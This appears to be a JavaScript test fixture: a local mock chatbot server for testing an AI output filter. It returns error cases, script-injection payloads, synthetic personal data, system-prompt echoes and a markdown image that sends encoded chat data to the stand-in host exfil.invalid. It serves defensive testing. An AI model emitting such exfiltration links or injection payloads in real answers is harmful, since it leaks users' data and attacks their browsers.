// A real loopback chatbot origin for the edge tests and the demo: an OpenAI-compatible server
// (also answering the Responses and Anthropic Messages routes) with deterministic answers.
//
// The `model` field picks a behaviour, so tests can reach every error path through the edge:
//   (any other)   deterministic answer "You said: <last user text>", JSON or SSE (`stream: true`).
//                 SSE bytes go out in chunks of 1..23 bytes with short pauses: split anywhere.
//                 If the user text contains "#leak", the answer adds synthetic personal data;
//                 "#canary" adds the canary planted in the system prompt; "#echo-pii" repeats the
//                 user text verbatim; "#xss" answers with script-injection attempts (XSS_ANSWER)
//                 for the widget's browser tests; "#parrot" repeats the whole system prompt it got
//                 (the caller's plus what the edge appended, e.g. its per-request canary),
//                 upper-cased; "#exfil" adds a markdown image whose URL carries data to a foreign
//                 host, a bare link doing the same, and an image on the allowed host shop.example.
//   echo          the answer's text is the JSON of what the origin saw (headers + body).
//   tool          the answer calls the tools `lookup_order` and `delete_account`.
//   hang          never answers.              reset      destroys the connection.
//   garbage       200 with invalid JSON.      html       200 text/html.
//   fail          500 whose body leaks data.  sse-garbage  a stream with a broken event.
//   sse-hang      a stream that stops after one event and never ends.
//   unauthorized  401 that quotes part of the origin key.
//   redirect      307 to `/redirected`, which answers 200 (a followed redirect shows there).
//   busy          429 with `Retry-After: 7` and an error body naming synthetic personal data.
// Every request is also appended to `seen` ({path, headers, body}).
//
// Conversations: a chat request's `X-Chatguard-Conversation` id is kept in `conversations`;
// `DELETE /v1/conversations/{id}` forgets it (200, OpenAI's `conversation.deleted` shape) or
// answers 404 for an id it does not hold. Ids starting with `fail` get 500, `refuse` 403 and
// `hang` no answer, so the edge's deletion route can be driven down every path.
//
// Usage: `import { startOrigin } from './origin.mjs'; const o = await startOrigin();` or, for
// the demo and `wrangler dev`: `node tests/origin/origin.mjs [--port 8788]`.

import http from 'node:http';

/** Synthetic data the origin "leaks" on request. */
export const LEAK = {
  exfilHost: 'exfil.invalid',
  email: 'jane.roe@example.net',
  card: '4012 8888 8888 1881',
  canary: 'CANARY-7f3a9c51e2',
};

/** An answer full of script-injection attempts; a safe renderer shows it as inert text. */
export const XSS_ANSWER = [
  'Here you go: <img src=x onerror="window.__xss=1">',
  '[click me](javascript:window.__xss=2) and [again](JaVaScRiPt:window.__xss=3)',
  '<script>window.__xss=4</script> <a href="javascript:window.__xss=5">raw link</a>',
  '![pic](javascript:window.__xss=6) [data](data:text/html,<script>window.__xss=7</script>)',
  '<iframe src="javascript:window.__xss=8"></iframe> <svg onload="window.__xss=9">',
  '**Safe** help: [returns](https://shop.example/returns)',
].join('\n');

function lastUserText(path, body) {
  const texts = [];
  const take = (c) => {
    if (typeof c === 'string') texts.push(c);
    else if (Array.isArray(c)) for (const p of c) if (p && typeof p.text === 'string') texts.push(p.text);
  };
  if (path === '/v1/responses') {
    if (typeof body.input === 'string') texts.push(body.input);
    else if (Array.isArray(body.input)) for (const i of body.input) take(i.content);
  } else if (Array.isArray(body.messages)) {
    const users = body.messages.filter((m) => m.role === 'user');
    if (users.length) take(users[users.length - 1].content);
  }
  return texts.join(' ');
}

/** The system prompt of a request in any of the three formats, as one string. */
export function systemPrompt(path, body) {
  const texts = [];
  const take = (c) => {
    if (typeof c === 'string') texts.push(c);
    else if (Array.isArray(c)) for (const p of c) if (p && typeof p.text === 'string') texts.push(p.text);
  };
  if (path === '/v1/responses') take(body.instructions);
  else if (path === '/v1/messages') take(body.system);
  else if (Array.isArray(body.messages)) {
    for (const m of body.messages) if (m.role === 'system' || m.role === 'developer') take(m.content);
  }
  return texts.join('\n');
}

function answerText(path, body, seen) {
  if (body.model === 'echo') return JSON.stringify(seen);
  const said = lastUserText(path, body);
  let text = `You said: ${said}`;
  if (said.includes('#echo-pii')) text = said;
  if (said.includes('#xss')) text = XSS_ANSWER;
  if (said.includes('#leak')) {
    text += ` Our records show ${LEAK.email} and card ${LEAK.card}.`;
  }
  if (said.includes('#canary')) text += ` Internal: ${LEAK.canary}.`;
  if (said.includes('#exfil')) {
    text += ` ![status](https://${LEAK.exfilHost}/p.png?d=bm90ZXMgb2YgdGhlIGNoYXQgc28gZmFy) see`
      + ` https://${LEAK.exfilHost}/c?q=c2Vzc2lvbiBkYXRhIGFuZCBtb3JlIGRhdGE and`
      + ' ![logo](https://shop.example/logo.png?v=2) end.';
  }
  if (said.includes('#parrot')) text += ` My instructions: ${systemPrompt(path, body).toUpperCase()} End.`;
  return text;
}

const TOOL_CALLS = [
  { name: 'lookup_order', arguments: '{"order":"A-1001"}' },
  { name: 'delete_account', arguments: '{"confirm":true}' },
];

function jsonAnswer(path, body, text) {
  const tools = body.model === 'tool';
  if (path === '/v1/messages') {
    const content = [{ type: 'text', text }];
    if (tools) TOOL_CALLS.forEach((t, i) => content.push({ type: 'tool_use', id: `toolu_${i}`, name: t.name, input: JSON.parse(t.arguments) }));
    return { id: 'msg_1', type: 'message', role: 'assistant', model: body.model, content,
      stop_reason: tools ? 'tool_use' : 'end_turn', usage: { input_tokens: 1, output_tokens: 1 } };
  }
  if (path === '/v1/responses') {
    const output = [{ type: 'message', role: 'assistant', content: [{ type: 'output_text', text }] }];
    if (tools) TOOL_CALLS.forEach((t, i) => output.push({ type: 'function_call', call_id: `call_${i}`, name: t.name, arguments: t.arguments }));
    return { id: 'resp_1', object: 'response', model: body.model, output };
  }
  const message = { role: 'assistant', content: text };
  if (tools) message.tool_calls = TOOL_CALLS.map((t, i) => ({ id: `call_${i}`, type: 'function', function: t }));
  return { id: 'chatcmpl-1', object: 'chat.completion', model: body.model,
    choices: [{ index: 0, message, finish_reason: tools ? 'tool_calls' : 'stop' }] };
}

/** Cuts `text` into pieces of 1..7 characters (the model's "tokens"). */
function pieces(text) {
  const out = [];
  for (let at = 0, n = 1; at < text.length; n = (n % 7) + 1) {
    out.push(text.slice(at, at + n));
    at += n;
  }
  return out;
}

function sseEvents(path, body, text) {
  const ev = (name, data) => (name ? `event: ${name}\n` : '') + `data: ${JSON.stringify(data)}\n\n`;
  let s = '';
  if (path === '/v1/messages') {
    s += ev('message_start', { type: 'message_start', message: { id: 'msg_1', type: 'message', role: 'assistant', content: [], model: body.model } });
    s += ev('content_block_start', { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } });
    for (const p of pieces(text)) s += ev('content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: p } });
    s += ev('content_block_stop', { type: 'content_block_stop', index: 0 });
    s += ev('message_delta', { type: 'message_delta', delta: { stop_reason: 'end_turn' }, usage: { output_tokens: 1 } });
    s += ev('message_stop', { type: 'message_stop' });
  } else if (path === '/v1/responses') {
    for (const p of pieces(text)) s += ev('response.output_text.delta', { type: 'response.output_text.delta', output_index: 0, content_index: 0, delta: p });
    s += ev('response.output_text.done', { type: 'response.output_text.done', output_index: 0, content_index: 0, text });
    s += ev('response.completed', { type: 'response.completed', response: jsonAnswer(path, body, text) });
  } else {
    for (const p of pieces(text)) {
      s += ev(null, { id: 'chatcmpl-1', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content: p }, finish_reason: null }] });
    }
    if (body.model === 'tool') {
      TOOL_CALLS.forEach((t, i) => {
        s += ev(null, { id: 'chatcmpl-1', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { tool_calls: [{ index: i, id: `call_${i}`, type: 'function', function: { name: t.name, arguments: '' } }] }, finish_reason: null }] });
        s += ev(null, { id: 'chatcmpl-1', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { tool_calls: [{ index: i, function: { arguments: t.arguments } }] }, finish_reason: null }] });
      });
    }
    s += ev(null, { id: 'chatcmpl-1', object: 'chat.completion.chunk', choices: [{ index: 0, delta: {}, finish_reason: body.model === 'tool' ? 'tool_calls' : 'stop' }] });
    s += 'data: [DONE]\n\n';
  }
  return s;
}

/**
 * Writes `text` in chunks of 1..23 bytes (a fixed pseudo-random sequence), pausing between; or,
 * with `eventPauseMs`, one whole event per write, pausing between events (a model streaming one
 * token per event at a steady rate). `onWrite(index)` is called after each write.
 */
async function writeSplit(res, text, { pauseMs = 1, eventPauseMs, hangAfter = Infinity, onWrite } = {}) {
  if (eventPauseMs !== undefined) {
    const events = text.split(/(?<=\n\n)/);
    for (let i = 0; i < events.length; i += 1) {
      if (i > 0) await new Promise((r) => setTimeout(r, eventPauseMs));
      if (res.destroyed) return false;
      res.write(events[i]);
      onWrite?.(i);
    }
    return true;
  }
  const bytes = Buffer.from(text, 'utf8');
  let seed = 7;
  for (let at = 0; at < bytes.length;) {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    const n = 1 + (seed % 23);
    res.write(bytes.subarray(at, at + n));
    onWrite?.(at);
    at += n;
    if (at >= hangAfter) return false;
    if (pauseMs > 0) await new Promise((r) => setTimeout(r, pauseMs));
    if (res.destroyed) return false;
  }
  return true;
}

/** `DELETE /v1/conversations/{id}`: see the header comment. */
function deleteConversation(req, res, conversations) {
  const id = decodeURIComponent(req.url.slice('/v1/conversations/'.length));
  const json = (status, body) => { res.writeHead(status, { 'content-type': 'application/json' }); res.end(JSON.stringify(body)); };
  if (id.startsWith('hang')) return;
  if (id.startsWith('fail')) return json(500, { error: { message: `storage down while deleting ${id}` } });
  if (id.startsWith('refuse')) return json(403, { error: { message: 'not yours' } });
  if (!conversations.delete(id)) return json(404, { error: { message: 'no such conversation' } });
  json(200, { id, object: 'conversation.deleted', deleted: true });
}

/**
 * Starts the origin on 127.0.0.1. Returns { url, port, seen, conversations, close }.
 * Options: port (default 0 = any free port), pauseMs (between SSE chunks, default 1),
 * eventPauseMs (write SSE event by event with this pause instead), onWrite (called after each
 * SSE write; benchmarks time the stream with it).
 */
export async function startOrigin({ port = 0, pauseMs = 1, eventPauseMs, onWrite } = {}) {
  const seen = [];
  const conversations = new Set();
  const sockets = new Set();
  const server = http.createServer((req, res) => {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', async () => {
      const raw = Buffer.concat(chunks).toString('utf8');
      let body = {};
      try { body = raw ? JSON.parse(raw) : {}; } catch { body = { unparsed: raw }; }
      const record = { path: req.url, method: req.method, headers: req.headers, body };
      seen.push(record);
      if (req.url === '/redirected') { res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"choices":[{"index":0,"message":{"role":"assistant","content":"followed"}}]}'); return; }
      if (req.url === '/healthz') { res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"ok":true}'); return; }
      if (req.method === 'DELETE' && req.url.startsWith('/v1/conversations/')) {
        deleteConversation(req, res, conversations);
        return;
      }
      if (typeof req.headers['x-chatguard-conversation'] === 'string') conversations.add(req.headers['x-chatguard-conversation']);
      switch (body.model) {
        case 'hang': return; // never answer
        case 'reset': req.socket.destroy(); return;
        case 'garbage': res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"choices": [ nope'); return;
        case 'unauthorized': res.writeHead(401, { 'content-type': 'application/json' }); res.end(JSON.stringify({ error: { message: 'Incorrect API key provided: sk-proj-****f00d.', code: 'invalid_api_key' } })); return;
        case 'redirect': res.writeHead(307, { location: '/redirected' }); res.end(); return;
        case 'busy': res.writeHead(429, { 'content-type': 'application/json', 'retry-after': '7' }); res.end(JSON.stringify({ error: { message: `rate limited for ${LEAK.email}`, type: 'rate_limit' } })); return;
        case 'html': res.writeHead(200, { 'content-type': 'text/html' }); res.end('<p>hello</p>'); return;
        case 'fail': res.writeHead(500, { 'content-type': 'application/json' }); res.end(JSON.stringify({ error: `db down at ${LEAK.email}` })); return;
        default: break;
      }
      const text = answerText(req.url, body, record);
      if (body.stream === true || body.model === 'sse-garbage' || body.model === 'sse-hang') {
        res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
        let events = sseEvents(req.url, body, text);
        if (body.model === 'sse-garbage') {
          const first = events.indexOf('\n\n') + 2;
          events = events.slice(0, first) + 'data: {"choices": [ broken\n\n' + events.slice(first);
        }
        const hangAfter = body.model === 'sse-hang' ? events.indexOf('\n\n') + 2 : Infinity;
        const finished = await writeSplit(res, events, { pauseMs, eventPauseMs, hangAfter, onWrite });
        if (finished) res.end();
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(jsonAnswer(req.url, body, text)));
    });
  });
  server.on('connection', (s) => { sockets.add(s); s.on('close', () => sockets.delete(s)); });
  await new Promise((resolve) => server.listen(port, '127.0.0.1', resolve));
  const actual = server.address().port;
  return {
    url: `http://127.0.0.1:${actual}`,
    port: actual,
    seen,
    conversations,
    close: () => new Promise((resolve) => {
      for (const s of sockets) s.destroy();
      server.close(() => resolve());
    }),
  };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const i = process.argv.indexOf('--port');
  const port = i > 0 ? Number(process.argv[i + 1]) : 8788;
  const o = await startOrigin({ port, pauseMs: 15 });
  console.log(`chatguard demo origin listening on ${o.url}`);
}
